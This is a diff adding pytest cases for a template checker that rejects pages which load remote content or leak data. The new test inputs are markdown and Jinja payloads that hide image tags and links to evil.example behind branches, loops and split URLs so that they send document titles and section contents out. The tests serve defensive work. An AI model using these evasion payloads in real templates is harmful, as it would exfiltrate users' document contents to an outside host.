@@ -128,10 +128,38 @@ def test_a_page_loads_nothing_runs_nothing_and_sends_nothing(source: str) -> Non
         "www.evil.example/{% if document.title %}a{% endif %}",
         '!{{ "" }}[x](https://evil.example/a)',
         '<{% if document %}{% endif %}img src="https://evil.example/a">',
+        "{% if document.title %}!{% else %}x{% endif %}[a](https://evil.example/1)",
+        '<{% if document.title %}{% else %} {% endif %}img src="https:\\\\evil.example/?{{ document.title }}">',
+        '{% for x in document.sections %}img src="//evil.example/?{{ x.title }}"> <{% endfor %}',
+        "{% for x in document.sections %}[a](https://evil.example/1) !{%- endfor %}",
+        "{% if document.title %}[a]{% else %}x{% endif %}(//evil.example/?{{ document.title }})",
+        "> [a]: //evil.example/{{ document.title }}",
+        "\\{{ document.title }}",
+        "<{{ document.title }}",
     ],
 )
 def test_a_text_in_markdown_loads_nothing_and_has_no_link_that_tells(source: str) -> None:
     assert pack_templates.problems(source, False)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "htt{% if document.title %}ps://evil.example/?{% endif %}{{ document.title }}",
+        'htt{{ "" }}ps://evil.example/?{{ document.title }}',
+        "{% for x in document.sections[0].blocks[1].items %}w.evil.example/{{ x }} ww{% endfor %}",
+    ],
+)
+def test_what_only_one_branch_or_a_second_round_makes_is_found_in_the_finished_page(source: str) -> None:
+    assert pack_templates.problems(source, False) == []
+    with pytest.raises(PackRefused) as refused:
+        page(source)
+    assert "quince" not in str(refused.value) + "".join(refused.value.problems)
+
+
+def test_a_link_and_a_call_stand_in_a_branch_where_nothing_can_be_added_to_them() -> None:
+    source = "{% if document.title %}[Guide](https://example.org/a)\n{% endif %}Thanks, {{ document.title }}!\n[x]"
+    assert page(source) == "[Guide](https://example.org/a)\nThanks, Note!\n[x]"
 
 
 @pytest.mark.parametrize(
